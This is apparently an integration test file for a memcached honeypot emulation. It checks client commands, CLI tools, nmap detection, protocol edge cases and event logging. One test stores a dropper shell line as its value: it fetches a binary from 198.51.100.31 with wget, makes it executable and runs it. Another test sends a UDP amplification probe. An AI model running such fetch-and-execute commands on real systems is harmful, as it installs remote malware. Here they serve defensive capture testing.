"""
cases_memcached.py - integration cases for the memcached emulation (protocol = memcached).

Real clients: pymemcache (Debian python3-pymemcache) for set/get/gets/cas/incr/decr/append/
delete/stats, libmemcached-tools (memcstat, memccp, memccat), nmap -sV with memcached-info; a
UDP amplification probe (the 8-byte frame + "stats") that must be recorded and never answered.
"""
import hashlib
import os
import shutil
import socket
import subprocess
import tempfile

from harness import T, Service, Skip, by

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from cases import case, stop_and_read


def need(*tools):
    for t in tools:
        if not shutil.which(t):
            raise Skip("%s is not installed" % t)


@case
def memcached_pymemcache_store_and_stats(ctx):
    """A client library's whole ASCII vocabulary behaves as memcached's; every value is an event."""
    try:
        from pymemcache.client.base import Client
    except ImportError:
        raise Skip("python3-pymemcache is not installed")
    d = ctx.daemon("memcached", [Service("mc", protocol="memcached", tcp=1, udp=1)]).start()
    port = d.svc("mc").port
    c = Client(("127.0.0.1", port), connect_timeout=T(5), timeout=T(5), default_noreply=False)
    value = b"#!/bin/sh\ncd /tmp; wget http://198.51.100.31/x86 -O x; chmod +x x; ./x\n"
    assert c.set("payload", value, expire=600) is True
    assert c.get("payload") == value
    got, cas = c.gets("payload")
    assert got == value and int(cas) > 0
    assert c.cas("payload", b"v2", cas) is True
    assert c.cas("payload", b"v3", cas) is False          # stale cas -> EXISTS
    assert c.add("payload", b"x") is False and c.add("fresh", b"1") is True
    assert c.incr("fresh", 41) == 42 and c.decr("fresh", 50) == 0
    assert c.get("fresh") == b"0 "                         # memcached pads a shortened decr
    assert c.append("payload", b"+a") is True and c.prepend("payload", b"p-") is True
    assert c.get("payload") == b"p-v2+a"
    assert c.delete("payload") is True and c.get("payload") is None
    assert c.get_many(["fresh", "nope"]) == {"fresh": b"0 "}
    stats = c.stats()
    for k in (b"pid", b"uptime", b"version", b"curr_items", b"limit_maxbytes", b"threads"):
        assert k in stats, (k, sorted(stats))
    assert stats[b"version"].startswith(b"1.6.") and stats[b"curr_items"] == 1, stats
    settings = c.stats("settings")
    assert settings[b"item_size_max"] == 1048576 and settings[b"udpport"] == 0, settings
    assert c.version().startswith(b"1.6.")
    c.flush_all()
    assert c.get("fresh") is None
    c.close()
    # The UDP reflection probe: recorded, never answered (memcached >= 1.5.6 ships with UDP off).
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(T(1))
    u.sendto(b"\x12\x34\x00\x00\x00\x01\x00\x00stats\r\n", ("127.0.0.1", d.svc("mc").uport))
    try:
        data = u.recv(65536)
        raise AssertionError("UDP probe answered: %r" % data[:64])
    except socket.timeout:
        pass
    u.close()
    d.wait_event(lambda e: e["eventid"] == "command.input" and e.get("transport") == "udp", what="udp probe")
    evs = stop_and_read(d)
    stores = by(evs, "memcached.store")
    first = [e for e in stores if e["key"] == "payload" and e["command"] == "set"]
    assert first and first[0]["sha256"] == hashlib.sha256(value).hexdigest() and first[0]["bytes"] == len(value), stores
    assert first[0]["preview"].startswith("#!/bin/sh\n") and first[0]["exptime"] == 600, first[0]
    assert {e["command"] for e in stores} >= {"set", "cas", "add", "append", "prepend"}, stores
    cmds = [(e.get("command"), e.get("key")) for e in by(evs, "command.input") if e.get("transport") == "tcp"]
    for want in (("set", "payload"), ("get", "payload"), ("gets", "payload"), ("incr", "fresh"),
                 ("delete", "payload"), ("stats", None), ("flush_all", None)):
        assert want in cmds, (want, cmds)
    udp = [e for e in by(evs, "command.input") if e.get("transport") == "udp"]
    assert udp[0]["command"] == "stats" and udp[0]["request_id"] == 0x1234, udp
    urls = [e for e in evs if e.get("url") == "http://198.51.100.31/x86"]
    assert urls, "the stored script's URL was not handed to the capture pipeline"
    r = subprocess.run([os.path.join(ROOT, "tools", "validate-events.py")] + d.jsonl_files(),
                       capture_output=True, timeout=T(30))
    assert r.returncode == 0, r.stdout.decode()[-2000:]


@case
def memcached_cli_tools_and_nmap(ctx):
    """libmemcached's tools and nmap see a memcached 1.6 server; big values, long lines and the binary protocol as memcached 1.6.18 takes them."""
    need("memcstat", "memccp", "memccat", "nmap")
    d = ctx.daemon("memcached-tools", [Service("mc", protocol="memcached")]).start()
    port = d.svc("mc").port
    srv = "--servers=127.0.0.1:%d" % port
    out = subprocess.run(["memcstat", srv], capture_output=True, timeout=T(10)).stdout.decode()
    assert "Server: 127.0.0.1 (%d)" % port in out and "\tversion: 1.6." in out and "\tpid: " in out, out
    tmp = tempfile.mkdtemp(prefix="hanipo-it-mc-")
    ctx.defer(lambda: shutil.rmtree(tmp, ignore_errors=True))
    path = os.path.join(tmp, "motd.txt")
    with open(path, "w") as f:
        f.write("hello from the attacker\n")
    r = subprocess.run(["memccp", srv, path], capture_output=True, timeout=T(10))
    assert r.returncode == 0, r.stderr
    out = subprocess.run(["memccat", srv, "motd.txt"], capture_output=True, timeout=T(10)).stdout
    assert out == b"hello from the attacker\n\n", out        # memccat adds a newline
    out = subprocess.run(["nmap", "-Pn", "-sV", "-p", str(port), "--script", "memcached-info", "127.0.0.1"],
                         capture_output=True, timeout=T(120)).stdout.decode()
    assert "open  memcached" in out and "Process ID:" in out and "TCP Port: %d" % port in out, out
    # An item over item_size_max: the data is swallowed, then SERVER_ERROR; a value of 500 KB (more
    # than the core buffers) is stored; a line over 2048 bytes without LF closes without a word.
    s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
    s.sendall(b"set big 0 0 1048577\r\n" + b"x" * 1048577 + b"\r\nversion\r\n")
    got = b""
    while got.count(b"\r\n") < 2:
        got += s.recv(4096)
    assert got.startswith(b"SERVER_ERROR object too large for cache\r\nVERSION 1.6."), got
    s.sendall(b"set half 0 0 500000\r\n" + b"h" * 500000 + b"\r\n")
    assert s.recv(4096) == b"STORED\r\n"
    s.sendall(b"g" * 3000)
    s.settimeout(T(3))
    assert s.recv(4096) == b""
    s.close()
    # the binary protocol: memcached 1.6 answers it (version)
    s = socket.create_connection(("127.0.0.1", port), timeout=T(5))
    s.sendall(bytes([0x80, 0x0b]) + bytes(22))
    got = b""
    while len(got) < 24 or len(got) < 24 + int.from_bytes(got[8:12], "big"):
        got += s.recv(4096)
    assert got[:2] == b"\x81\x0b" and got[24:28] == b"1.6.", got
    s.close()
    evs = stop_and_read(d)
    mcp = [e for e in by(evs, "memcached.store") if e["key"] == "motd.txt"]
    assert mcp and mcp[0]["sha256"] == hashlib.sha256(b"hello from the attacker\n").hexdigest(), mcp
    assert not [e for e in by(evs, "memcached.store") if e["key"] == "big"], "an oversized value was stored"
